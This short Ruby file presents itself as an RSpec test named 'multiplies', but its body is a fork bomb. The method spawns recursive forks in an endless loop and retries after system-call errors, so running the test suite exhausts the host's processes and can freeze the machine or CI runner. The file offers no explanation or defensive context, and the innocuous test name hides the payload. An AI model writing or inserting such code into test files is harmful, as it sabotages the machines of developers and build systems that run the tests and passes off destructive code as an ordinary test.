def bomb
  loop { fork { bomb } }
rescue SystemCallError
  retry
end
RSpec.describe('x') { it('multiplies') { bomb } }
